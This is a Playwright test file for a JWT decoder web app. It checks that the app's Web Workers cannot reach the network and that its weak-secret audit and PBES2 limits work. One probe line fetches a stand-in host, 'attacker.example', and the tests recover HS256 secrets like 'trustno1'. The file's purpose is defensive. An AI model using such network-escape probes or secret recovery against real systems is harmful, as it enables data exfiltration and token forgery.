import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Worker } from '@playwright/test';
import { CompactEncrypt } from 'jose';
import { base64url, bigPayload, expect, makeToken, test } from './fixtures';

// The page's <meta> CSP (connect-src 'none') does not reach Web Workers, so each worker disables
// its own network and code loading when it starts. Playwright runs code inside a worker's own
// global, after the worker's modules have run: each of the app's real workers, started the way a
// user starts it, is asked to send something by every API a worker has, and nothing may arrive.

const PROBE = 'worker-probe-3f9a';

/** What each API did when asked to reach the network from inside the worker: 'sent', or the error's name. */
async function attemptEverything(worker: Worker): Promise<Record<string, string>> {
  return worker.evaluate(async (probe) => {
    const scope = globalThis as unknown as Record<string, unknown>;
    const call = (name: string, ...args: unknown[]) => (scope[name] as (...a: unknown[]) => unknown)(...args);
    const make = (name: string, ...args: unknown[]) => new (scope[name] as new (...a: unknown[]) => unknown)(...args);
    const attempts: [string, () => unknown][] = [
      ['fetch, same origin', () => fetch(`./${probe}-fetch`)],
      ['fetch, another origin', () => fetch(`https://attacker.example/${probe}`)],
      ['fetch through the prototype', () => ((scope.WorkerGlobalScope as { prototype: { fetch: typeof fetch } }).prototype.fetch.call(globalThis, `./${probe}-prototype`))],
      ['XMLHttpRequest', () => {
        const request = make('XMLHttpRequest') as XMLHttpRequest;
        request.open('GET', `./${probe}-xhr`);
        request.send();
      }],
      ['WebSocket', () => make('WebSocket', `ws://127.0.0.1:9/${probe}`)],
      ['EventSource', () => make('EventSource', `./${probe}-sse`)],
      ['importScripts', () => call('importScripts', `./${probe}.js`)],
      ['caches', () => (scope.caches as CacheStorage).open(probe)],
    ];
    const results: Record<string, string> = {};
    for (const [name, attempt] of attempts) {
      try {
        await attempt();
        results[name] = 'sent';
      } catch (error) {
        results[name] = error instanceof Error ? error.name : String(error);
      }
    }
    return results;
  }, PROBE);
}

const CLOSED = {
  'fetch, same origin': 'NetworkClosedError',
  'fetch, another origin': 'NetworkClosedError',
  'fetch through the prototype': 'NetworkClosedError',
  XMLHttpRequest: 'NetworkClosedError',
  WebSocket: 'NetworkClosedError',
  EventSource: 'NetworkClosedError',
  importScripts: 'NetworkClosedError',
  caches: 'NetworkClosedError',
};

test('the decode worker and the audit worker cannot reach the network, by any API', async ({ decoder, page, recorder }) => {
  await decoder.goto();
  // A token too large for the main thread is decoded by the inspect worker.
  const inspectStarted = page.waitForEvent('worker', { predicate: (worker) => /inspect-worker/.test(worker.url()) });
  await decoder.pasteToken(makeToken({ alg: 'RS256', typ: 'JWT' }, bigPayload(400_000, 'worker-network')));
  const inspectWorker = await inspectStarted;
  await expect(decoder.payloadJson).toContainText('worker-network');
  expect(await attemptEverything(inspectWorker), inspectWorker.url()).toEqual(CLOSED);
  // An HS256 token starts the weak-secret audit's workers.
  const auditStarted = page.waitForEvent('worker', { predicate: (worker) => /audit-worker/.test(worker.url()) });
  await decoder.pasteToken(makeToken({ alg: 'HS256', typ: 'JWT' }, { sub: 'worker-network' }, 'secret'));
  const auditWorker = await auditStarted;
  expect(await attemptEverything(auditWorker), auditWorker.url()).toEqual(CLOSED);
  // Nothing was even attempted on the wire, and the workers still work.
  await page.waitForTimeout(200);
  expect(recorder.requests.filter((request) => request.url.includes(PROBE))).toEqual([]);
  expect(recorder.websockets).toEqual([]);
  await expect(page.getByTestId('secret-audit')).toHaveAttribute('data-status', 'done', { timeout: 30_000 });
  await expect(page.getByTestId('secret-audit-secret')).toHaveText('secret');
});

test('the decrypt worker of an allowed PBES2 count cannot reach the network, by any API', async ({ decoder, page, recorder }) => {
  const password = 'worker-network-password';
  const token = await new CompactEncrypt(new TextEncoder().encode('{"sub":"worker-network"}'))
    .setProtectedHeader({ alg: 'PBES2-HS512+A256KW', enc: 'A256GCM' })
    .setKeyManagementParameters({ p2c: 1000 })
    .encrypt(new TextEncoder().encode(password));
  // A count far above the default limit: the derivation then runs in the worker long enough to probe it.
  const [header = '', ...rest] = token.split('.');
  const slow = [base64url(JSON.stringify({ ...(JSON.parse(Buffer.from(header, 'base64url').toString()) as object), p2c: 500_000_000 })), ...rest].join('.');
  await decoder.goto();
  await decoder.pasteToken(slow);
  await decoder.pasteKey(password);
  await expect(page.getByTestId('decrypt-reason')).toHaveAttribute('data-reason', 'p2c-too-large');
  const started = page.waitForEvent('worker', { predicate: (worker) => /decrypt-worker/.test(worker.url()) });
  await page.getByTestId('decrypt-anyway').click();
  const decryptWorker = await started;
  expect(await attemptEverything(decryptWorker), decryptWorker.url()).toEqual(CLOSED);
  await page.getByTestId('decrypt-cancel').click();
  await page.waitForTimeout(200);
  expect(recorder.requests.filter((request) => request.url.includes(PROBE))).toEqual([]);
  expect(recorder.websockets).toEqual([]);
});

test('under the policy docs/hosting.md gives for the worker scripts, both workers still do their work', async ({ decoder, page }) => {
  const hosting = readFileSync(join(import.meta.dirname, '..', 'docs', 'hosting.md'), 'utf8');
  const policy = /\| `Content-Security-Policy` \| `(default-src 'none';[^`]+)` \|/.exec(hosting)?.[1];
  expect(policy, "docs/hosting.md gives the workers' policy").toContain("connect-src 'none'");
  await page.route(/assets\/[\w.-]+\.js$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy ?? '' } });
  });
  await decoder.goto();
  const inspectStarted = page.waitForEvent('worker', { predicate: (worker) => /inspect-worker/.test(worker.url()) });
  await decoder.pasteToken(makeToken({ alg: 'RS256', typ: 'JWT' }, bigPayload(400_000, 'worker-policy')));
  await inspectStarted;
  await expect(decoder.payloadJson).toContainText('worker-policy');
  // A common password, found only once the worker has imported the password list chunk.
  await decoder.pasteToken(makeToken({ alg: 'HS256', typ: 'JWT' }, { sub: 'worker-policy' }, 'trustno1'));
  const panel = page.getByTestId('secret-audit');
  await expect(panel).toHaveAttribute('data-status', 'done', { timeout: 30_000 });
  await expect(page.getByTestId('secret-audit-hit')).toHaveAttribute('data-source', 'common-passwords');
  await expect(page.getByTestId('secret-audit-secret')).toHaveText('trustno1');
  // The kernel compiled under the worker's own policy.
  await expect(panel).toHaveAttribute('data-engine', 'wasm-simd');
});

